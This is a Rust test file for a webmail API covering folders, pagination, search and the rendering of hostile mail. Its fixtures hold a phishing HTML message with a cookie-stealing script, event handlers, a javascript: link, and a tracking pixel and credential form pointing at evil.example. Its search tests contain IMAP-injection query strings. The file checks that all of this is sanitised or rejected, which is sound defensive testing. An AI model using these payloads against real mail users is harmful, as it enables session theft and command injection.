//! Reading: folders, pages of a folder, search, a message, hostile mail.

use serde_json::json;

use super::{plain, MailApp, ALICE, BOB};
use crate::on_both_backends;
use crate::support::Backend;

on_both_backends!(
    folders_have_their_special_use_and_counts,
    pages_are_newest_first_and_search_finds_text,
    hostile_mail_is_shown_sanitised_and_never_breaks_a_listing,
);

async fn folders_have_their_special_use_and_counts(backend: Backend) {
    let Some(m) = MailApp::start(backend).await else {
        return;
    };
    m.deliver(ALICE, "INBOX", &plain(BOB, ALICE, "one", "1"));
    m.deliver(ALICE, "INBOX", &plain(BOB, ALICE, "two", "2"));
    m.deliver(ALICE, "Sent", &plain(ALICE, BOB, "mine", "3"));
    let folders = m.get(&m.alice, "/api/v1/mail/folders").await;
    let mut got: Vec<(String, serde_json::Value, u64, u64)> = folders["folders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["name"].as_str().unwrap().to_owned(),
                f["special_use"].clone(),
                f["total"].as_u64().unwrap(),
                f["unread"].as_u64().unwrap(),
            )
        })
        .collect();
    got.sort_by(|a, b| a.0.cmp(&b.0));
    assert_eq!(
        got,
        vec![
            ("Drafts".into(), json!("Drafts"), 0, 0),
            ("INBOX".into(), json!("Inbox"), 2, 2),
            ("Junk".into(), json!("Junk"), 0, 0),
            ("Sent".into(), json!("Sent"), 1, 1),
            ("Trash".into(), json!("Trash"), 0, 0),
        ]
    );
    // A folder that does not exist.
    let (status, answer) = m
        .call(&m.alice, "GET", "/api/v1/mail/inbox?folder=Nowhere", None)
        .await;
    assert_eq!(status, 404, "{answer:#}");
    let (status, answer) = m
        .call(&m.alice, "GET", "/api/v1/mail/inbox?limit=0", None)
        .await;
    assert_eq!((status, answer["field"].as_str()), (422, Some("limit")));
}

async fn pages_are_newest_first_and_search_finds_text(backend: Backend) {
    let Some(m) = MailApp::start(backend).await else {
        return;
    };
    for n in 1..=5 {
        let body = if n == 3 {
            "the Zebra report".to_owned()
        } else {
            format!("note {n}")
        };
        m.deliver(
            ALICE,
            "INBOX",
            &plain(BOB, ALICE, &format!("message {n}"), &body),
        );
    }
    let page = |n: u32| format!("/api/v1/mail/inbox?folder=INBOX&page={n}&limit=2");
    let subjects = |page: &serde_json::Value| -> Vec<String> {
        page["messages"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["subject"].as_str().unwrap().to_owned())
            .collect()
    };
    let first = m.get(&m.alice, &page(1)).await;
    assert_eq!(first["total"], 5);
    assert_eq!(subjects(&first), ["message 5", "message 4"]);
    assert_eq!(
        subjects(&m.get(&m.alice, &page(2)).await),
        ["message 3", "message 2"]
    );
    assert_eq!(subjects(&m.get(&m.alice, &page(3)).await), ["message 1"]);
    assert!(subjects(&m.get(&m.alice, &page(4)).await).is_empty());
    let listed = &first["messages"][0];
    assert_eq!(listed["preview"], "note 5");
    assert_eq!(listed["from"]["address"], BOB);
    assert_eq!(listed["to"][0]["address"], ALICE);
    assert_eq!(listed["date"], "2026-12-01T10:00:00Z");
    assert_eq!(listed["has_attachments"], false);
    assert!(listed["size"].as_u64().unwrap() > 0);

    let found = m.get(&m.alice, "/api/v1/mail/search?q=zebra").await;
    assert_eq!(subjects(&found), ["message 3"]);
    assert_eq!(found["total"], 1);
    let found = m
        .get(
            &m.alice,
            "/api/v1/mail/search?folder=INBOX&q=message&limit=3",
        )
        .await;
    assert_eq!(found["total"], 5);
    assert_eq!(subjects(&found), ["message 5", "message 4", "message 3"]);
    // Non-ASCII text and IMAP syntax in the text are only text.
    m.deliver(
        ALICE,
        "INBOX",
        &plain(BOB, ALICE, "=?UTF-8?Q?Gr=C3=BC=C3=9Fe?=", "x"),
    );
    let found = m
        .get(&m.alice, "/api/v1/mail/search?q=Gr%C3%BC%C3%9Fe")
        .await;
    assert_eq!(subjects(&found), ["Grüße"]);
    let found = m
        .get(&m.alice, "/api/v1/mail/search?q=%22%29%20OR%20ALL%20%28")
        .await;
    assert_eq!(found["total"], 0);
    let (status, answer) = m
        .call(
            &m.alice,
            "GET",
            "/api/v1/mail/search?q=a%0D%0AA1%20LOGOUT",
            None,
        )
        .await;
    assert_eq!((status, answer["field"].as_str()), (422, Some("q")));
    // Reading through the API marks nothing.
    let id = first["messages"][0]["id"].as_str().unwrap();
    m.get(&m.alice, &format!("/api/v1/mail/messages/{id}"))
        .await;
    let again = m.get(&m.alice, &page(1)).await;
    assert!(!again["messages"][1]["flags"]
        .as_array()
        .unwrap()
        .contains(&json!("seen")));
}

const HOSTILE_HTML: &str = "From: Mallory <mallory@evil.example>\r\nTo: alice@acme.example\r\n\
Subject: You won\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n\
--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nClaim your prize\r\n\
--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><head><script>steal(document.cookie)</script><style>body{background:url(https://evil.example/bg)}</style></head>\
<body onload=\"steal()\"><p onclick=\"steal()\">Claim <a href=\"javascript:steal()\">here</a> or \
<a href=\"https://evil.example/win\">there</a></p>\
<img src=\"https://evil.example/pixel.gif?u=alice\" width=\"1\" height=\"1\">\
<iframe src=\"https://evil.example/frame\"></iframe><svg onload=\"steal()\"></svg>\
<form action=\"https://evil.example/\"><input name=\"password\"></form></body></html>\r\n\
--b1--\r\n";

/// Broken every way mail is broken: an unclosed boundary, a bad encoded word, a NUL, a bad
/// charset, a base64 part that is not base64, nested multiparts with the same boundary.
const MALFORMED: &str = "From: =?UTF-8?B?!!!?= <\r\nTo: ,,, <<>>\r\nSubject: =?x-unknown?Q?=FF=FE?= broken\r\n\
Date: the day after tomorrow\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n\
--x\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/plain; charset=klingon\r\n\
Content-Transfer-Encoding: base64\r\n\r\n%%%% not base64 \u{0} at all\r\n\
--x\r\nContent-Type: application/octet-stream; name=\"=?UTF-8?B?broken\"\r\nContent-Disposition: attachment\r\n\r\nxx\r\n";

async fn hostile_mail_is_shown_sanitised_and_never_breaks_a_listing(backend: Backend) {
    let Some(m) = MailApp::start(backend).await else {
        return;
    };
    m.deliver(ALICE, "INBOX", HOSTILE_HTML);
    m.deliver(ALICE, "INBOX", MALFORMED);
    m.deliver(ALICE, "INBOX", &plain(BOB, ALICE, "after them", "fine"));
    let inbox = m.messages(&m.alice, "INBOX").await;
    assert_eq!(inbox.len(), 3, "{inbox:#?}");
    assert_eq!(inbox[0]["subject"], "after them");

    let hostile = inbox[2]["id"].as_str().unwrap();
    let read = m
        .get(&m.alice, &format!("/api/v1/mail/messages/{hostile}"))
        .await;
    let html = read["html"].as_str().unwrap();
    for gone in [
        "<script",
        "steal",
        "onload",
        "onclick",
        "javascript:",
        "evil.example/pixel",
        "<iframe",
        "<style",
        "evil.example/bg",
        "<form",
        "<input",
        "<svg",
    ] {
        assert!(!html.contains(gone), "{gone} in {html}");
    }
    assert!(html.contains("https://evil.example/win"), "{html}");
    assert_eq!(read["remote_content_blocked"], true);
    assert_eq!(read["text"], "Claim your prize");
    // Asked for, remote images stay; scripts never do.
    let read = m
        .get(
            &m.alice,
            &format!("/api/v1/mail/messages/{hostile}?external=true"),
        )
        .await;
    let html = read["html"].as_str().unwrap();
    assert!(html.contains("https://evil.example/pixel.gif"), "{html}");
    assert!(
        !html.contains("<script") && !html.contains("onload"),
        "{html}"
    );

    let malformed = inbox[1]["id"].as_str().unwrap();
    let (status, read) = m
        .call(
            &m.alice,
            "GET",
            &format!("/api/v1/mail/messages/{malformed}"),
            None,
        )
        .await;
    assert_eq!(status, 200, "{read:#}");
    for n in 0..3 {
        let response = m
            .download(
                &m.alice,
                &format!("/api/v1/mail/messages/{malformed}/attachments/{n}"),
            )
            .await;
        assert!(matches!(response.status().as_u16(), 200 | 404), "{n}");
    }
    // And the server is still there for the next message.
    let fine = inbox[0]["id"].as_str().unwrap();
    let read = m
        .get(&m.alice, &format!("/api/v1/mail/messages/{fine}"))
        .await;
    assert_eq!(read["text"].as_str().unwrap().trim(), "fine");
}
